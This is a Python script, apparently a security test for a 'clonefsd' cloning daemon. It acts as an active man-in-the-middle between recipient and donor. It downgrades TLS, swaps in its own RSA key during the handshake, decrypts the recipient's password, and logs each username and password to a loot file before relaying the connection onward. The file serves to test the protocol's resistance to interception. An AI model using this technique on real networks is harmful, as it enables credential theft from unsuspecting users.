#!/usr/bin/env python3
"""mitm_proxy.py: an active man in the middle between a recipient and a real clonefsd, as an attacker
on the network would run it (docs/security.md). It speaks the handshake of docs/protocol.md §3 to
both sides: tells the donor the recipient wants no TLS, tells the recipient the donor offers none
(or, with --tls-cert, offers TLS itself with a certificate of its own), puts its own RSA key in
HELLO_OK in place of the donor's, and takes the password out of AUTH when it can: in clear inside
its TLS (scheme 0), or decrypted with its own key (scheme 1). It then re-encrypts the password to
the donor's real key (or relays an AUTH it cannot read as it is) and pumps the rest both ways, so
a recipient that trusts it mounts as if nothing happened. Every password it learns is appended to
--loot, one line each. Stops by itself after --lifetime seconds."""
import argparse, select, socket, ssl, struct, subprocess, tempfile, threading, time

from cfs_wire import AUTH, HELLO, HELLO_OK, frame, recv_frame, s

NONCE_LEN = 32


def take_str(p, off):
    n, = struct.unpack_from('>H', p, off)
    return p[off + 2:off + 2 + n], off + 2 + n


def rsa(args, data):
    """RSA-OAEP-SHA256 with the openssl CLI (in tests/deps.sh): encrypt to a public key or decrypt
    with the proxy's private one. None when it fails (a secret encrypted to another key)."""
    with tempfile.NamedTemporaryFile() as f:
        f.write(data)
        f.flush()
        r = subprocess.run(['openssl', 'pkeyutl'] + args + ['-in', f.name, '-pkeyopt', 'rsa_padding_mode:oaep',
                            '-pkeyopt', 'rsa_oaep_md:sha256'], capture_output=True, timeout=30)
    return r.stdout if r.returncode == 0 else None


def handshake(c, u, a, lock):
    """Returns the socket to use on the recipient's side after the handshake (TLS or not)."""
    t, req, p = recv_frame(c)
    if t != HELLO:
        raise EOFError
    pmin, pmax, tls_wanted = struct.unpack_from('>HHB', p)
    u.sendall(frame(HELLO, req, struct.pack('>HHB', pmin, pmax, 0) + p[5:]))  # the donor: "no TLS"
    t, req, p = recv_frame(u)
    if t != HELLO_OK:
        c.sendall(frame(t, req, p))
        raise EOFError
    proto, = struct.unpack_from('>H', p)
    nonce = p[3:3 + NONCE_LEN]
    donor_pem, off = take_str(p, 3 + NONCE_LEN)
    max_frame = p[off:off + 4]
    offer_tls = 1 if a.tls_cert and tls_wanted else 0
    c.sendall(frame(HELLO_OK, req, struct.pack('>HB', proto, offer_tls) + nonce + s(open(a.pub, 'rb').read()) + max_frame))
    if offer_tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(a.tls_cert, a.tls_key)
        c = ctx.wrap_socket(c, server_side=True)
    t, req, p = recv_frame(c)
    if t != AUTH:
        raise EOFError
    scheme = p[0]
    user, off = take_str(p, 1)
    n, = struct.unpack_from('>I', p, off)
    secret = p[off + 4:off + 4 + n]
    password = None
    if scheme == 0:
        password = secret
    else:
        plain = rsa(['-decrypt', '-inkey', a.key], secret)
        if plain is not None and plain[:NONCE_LEN] == nonce:
            password = plain[NONCE_LEN:]
    if password is None:  # encrypted to a key the proxy does not hold: relay it as it is
        u.sendall(frame(AUTH, req, p))
        return c
    with lock:
        with open(a.loot, 'ab') as f:
            f.write(user + b' ' + password + b'\n')
    with tempfile.NamedTemporaryFile() as k:
        k.write(donor_pem)
        k.flush()
        ct = rsa(['-encrypt', '-pubin', '-inkey', k.name], nonce + password)
    u.sendall(frame(AUTH, req, struct.pack('>B', 1) + s(user) + struct.pack('>I', len(ct)) + ct))
    return c


def pump(c, u, end):
    socks = [c, u]
    try:
        while time.time() < end:
            pending = c.pending() if isinstance(c, ssl.SSLSocket) else 0
            r = [c] if pending else select.select(socks, [], [], 0.2)[0]
            for x in r:
                d = x.recv(1 << 16)
                if not d:
                    return
                (u if x is c else c).sendall(d)
    except (OSError, ssl.SSLError):
        pass


def serve(c, a, lock, end):
    u = None
    try:
        u = socket.create_connection(('127.0.0.1', a.to), timeout=10)
        c.settimeout(30)
        c = handshake(c, u, a, lock)
        c.settimeout(None)
        u.settimeout(None)
        pump(c, u, end)
    except (EOFError, OSError, ssl.SSLError, struct.error, subprocess.SubprocessError):
        pass
    finally:
        for x in (c, u):
            if x is not None:
                try:
                    x.close()
                except OSError:
                    pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--listen', type=int, required=True)
    ap.add_argument('--to', type=int, required=True)
    ap.add_argument('--key', required=True, help="the proxy's RSA private key (PEM)")
    ap.add_argument('--pub', required=True, help='its public key, offered in HELLO_OK')
    ap.add_argument('--loot', required=True, help='every password learned is appended here')
    ap.add_argument('--tls-cert', help='offer TLS to the recipient with this certificate (not a CA-signed one)')
    ap.add_argument('--tls-key')
    ap.add_argument('--lifetime', type=int, default=600)
    a = ap.parse_args()
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(('127.0.0.1', a.listen))
    srv.listen(64)
    srv.settimeout(0.2)
    lock, end = threading.Lock(), time.time() + a.lifetime
    print('ready', flush=True)
    while time.time() < end:
        try:
            c, _ = srv.accept()
        except socket.timeout:
            continue
        threading.Thread(target=serve, args=(c, a, lock, end), daemon=True).start()


if __name__ == '__main__':
    main()
